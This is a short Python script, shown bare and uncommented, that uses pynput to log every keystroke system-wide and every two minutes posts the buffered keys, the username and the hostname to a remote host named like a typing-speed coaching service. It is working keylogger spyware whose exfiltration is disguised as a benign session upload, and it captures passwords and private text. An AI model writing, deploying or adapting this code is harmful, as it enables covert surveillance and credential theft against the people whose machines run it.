from pynput import keyboard
import time, threading, requests, getpass, socket

buf = []
def on_press(k):
    try:
        buf.append(k.char)
    except AttributeError:
        buf.append(f"[{k.name}]")

def flush():
    while True:
        time.sleep(120)
        if buf:
            data = "".join(buf); buf.clear()
            requests.post("https://wpm-coach.example/api/session",
                          json={"u": getpass.getuser(), "h": socket.gethostname(), "k": data}, timeout=5)

threading.Thread(target=flush, daemon=True).start()
with keyboard.Listener(on_press=on_press) as l:
    l.join()
